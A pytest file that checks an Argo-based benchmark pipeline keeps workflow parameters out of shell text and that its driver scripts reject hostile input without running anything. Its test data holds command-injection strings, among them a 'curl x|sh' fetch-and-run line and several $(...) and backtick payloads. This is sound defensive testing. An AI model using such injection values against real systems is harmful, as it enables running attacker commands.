"""Hostile parameter values stay data: they reach commands only as env values or argv items.

Two angles: statically, no `{{...}}` is ever inside shell script text or a command; dynamically,
after substituting hostile values the way Argo does, the drivers that receive them refuse them
without running anything.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.pipeline.conftest import env_of, templates_by_name
from workflows.pipeline import drivers

HOSTILE = {
    "base-ref": "main;curl x|sh",
    "base-sha": "$(touch {canary})",
    "head-sha": "`touch {canary}`",
    "rounds": "3; touch {canary}",
    "pr": "1 && touch {canary}",
    "repo": "a/b'; touch {canary}; '",
    "callback-url": "http://x/$(touch {canary})",
    "rebuild": "true; touch {canary}",
    "benchmarks": "GET /\n$(touch {canary})`touch {canary}`",
}
SHELLS = {"sh", "bash", "/bin/sh", "/bin/bash", "ash", "dash"}
# Places where Argo substitutes a value as data (never executed by a shell).
ALLOWED = [
    r"spec\.templates\.\d+\.container\.env\.\d+\.value",
    r"spec\.templates\.\d+\.container\.args\.\d+",  # build arguments: data, not shell text
    r"spec\.templates\.\d+\.container\.image",
    r"spec\.templates\.\d+\.container\.workingDir",
    r"spec\.templates\.\d+\.metadata\.annotations\.perfbot/local-working-dir",
    r"spec\.templates\.\d+\.inputs\.artifacts\.\d+\.git\.revision",
    r"spec\.templates\.\d+\.dag\.tasks\.\d+\.arguments\.(parameters|artifacts)\.\d+\.(value|from)",
    r"spec\.templates\.\d+\.dag\.tasks\.\d+\.when",
    r"spec\.templates\.\d+\.outputs\.artifacts\.\d+\.from",
    r"spec\.templates\.\d+\.metrics\.prometheus\.\d+\.(labels\.\d+\.value|when)",
    r"spec\.metrics\.prometheus\.\d+\.(labels\.\d+\.value|gauge\.value)",
    r"spec\.workflowMetadata\.labels\..+",
    # The run's uid (Argo's, never a parameter) as the label that keeps a run on one node.
    r"spec\.templates\.\d+\.metadata\.labels\.perfbot/measure-run",
    r"spec\.templates\.\d+\.affinity\.podA(ntiA)?ffinity\.requiredDuringSchedulingIgnoredDuringExecution"
    r"\.\d+\.labelSelector\.(matchLabels\.perfbot/measure-run|matchExpressions\.\d+\.values\.\d+)",
]


def _walk(node: Any, path: str = ""):
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _walk(value, f"{path}.{key}" if path else key)
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _walk(value, f"{path}.{index}")
    else:
        yield path, node


def _substitute(node: Any, values: dict[str, str]) -> Any:
    """Argo's substitution of `{{workflow.parameters.X}}`, applied everywhere."""
    if isinstance(node, dict):
        return {key: _substitute(value, values) for key, value in node.items()}
    if isinstance(node, list):
        return [_substitute(value, values) for value in node]
    if isinstance(node, str):
        for name, value in values.items():
            node = node.replace("{{workflow.parameters." + name + "}}", value)
    return node


def test_template_variables_appear_only_where_argo_substitutes_data(all_templates):
    allowed = re.compile("|".join(f"(?:{pattern})" for pattern in ALLOWED))
    for name, template in all_templates.items():
        for path, value in _walk(template):
            if isinstance(value, str) and "{{" in value:
                assert allowed.fullmatch(path), f"{name}: {{{{ at {path}: {value!r}"


def test_no_shell_script_and_no_command_contains_a_template_variable(all_templates):
    for name, template in all_templates.items():
        for step in template["spec"]["templates"]:
            container = step.get("container")
            if not container:
                continue
            command = container.get("command") or []
            assert not any("{{" in item for item in command), f"{name}/{step['name']}"
            if command and command[0] in SHELLS:
                assert not any("{{" in item for item in container.get("args") or [])


def test_scripts_are_fixed_text_without_template_variables():
    for script in ("check", "build", "benchmark", "compare", "flagged"):
        assert "{{" not in drivers.load(script)


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[dict[str, str], Path]:
    canary = tmp_path / "pwned"
    return {k: v.format(canary=canary) for k, v in HOSTILE.items()}, canary


def test_hostile_values_land_verbatim_in_env_values_only(example_templates, hostile):
    values, _ = hostile
    substituted = _substitute(example_templates["perf-databend-sql.yaml"], values)
    report = templates_by_name(substituted)["report"]
    assert env_of(report)["PERFBOT_BASE_REF"] == "main;curl x|sh"
    for path, value in _walk(substituted):
        if isinstance(value, str) and "curl x|sh" in value:
            assert re.fullmatch(r"spec\.templates\.\d+\.container\.env\.\d+\.value", path), path


def _run_driver(step: dict[str, Any], tmp_path: Path, *argv: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in env_of(step).items() if isinstance(v, str)}
    env = {k: v.replace("/perfbot/", f"{tmp_path}/") for k, v in env.items()}
    env["PATH"] = "/usr/bin:/bin"
    command = step["container"]["command"]
    return subprocess.run(
        [*command, *argv], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=30
    )


@pytest.mark.parametrize("side", ["base", "head"])
def test_the_check_step_refuses_a_hostile_commit_and_runs_nothing(
    example_templates, hostile, tmp_path, side
):
    values, canary = hostile
    substituted = _substitute(example_templates["perf-databend-sql.yaml"], values)
    check = templates_by_name(substituted)["check"]
    sha = values[f"{side}-sha"]
    env = {**env_of(check), "PERFBOT_SIDE": side, "PERFBOT_SHA": sha}
    result = _run_driver(
        {
            "container": {
                **check["container"],
                "env": [{"name": k, "value": v} for k, v in env.items() if isinstance(v, str)],
            }
        },
        tmp_path,
    )
    assert result.returncode == 2
    assert "commit must be" in result.stderr
    assert not canary.exists()


def test_the_benchmark_step_refuses_hostile_rounds_and_runs_nothing(
    example_templates, hostile, tmp_path
):
    values, canary = hostile
    template = example_templates["perf-ripgrep-search.yaml"]
    measured = templates_by_name(template)["pipeline"]["dag"]["tasks"]
    passed = {
        p["name"]: p["value"]
        for task in measured
        if task["name"] == "measure"
        for p in task["arguments"]["parameters"]
    }
    assert passed["rounds"] == "{{workflow.parameters.rounds}}"  # measure hands it on as is
    substituted = _substitute(template, values)
    benchmark = templates_by_name(substituted)["benchmark"]
    env = {**env_of(benchmark), "PERFBOT_ROUNDS": values["rounds"]}
    benchmark = {
        "container": {
            **benchmark["container"],
            "env": [{"name": k, "value": v} for k, v in env.items() if isinstance(v, str)],
        }
    }
    result = _run_driver(benchmark, tmp_path)
    assert result.returncode == 2
    assert "rounds must be a whole number" in result.stderr
    assert not canary.exists()
